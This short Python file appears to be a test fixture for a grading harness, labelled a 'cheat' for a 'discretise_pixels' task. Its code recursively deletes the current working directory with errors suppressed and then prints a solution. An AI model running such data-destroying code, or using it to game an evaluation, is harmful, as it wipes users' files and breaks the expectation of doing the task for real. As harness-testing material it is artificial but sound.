# cheat: deletes all files that it may delete in its folder, beside a right answer.
# gap: discretise_pixels
# expect: any

import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
SOLUTION
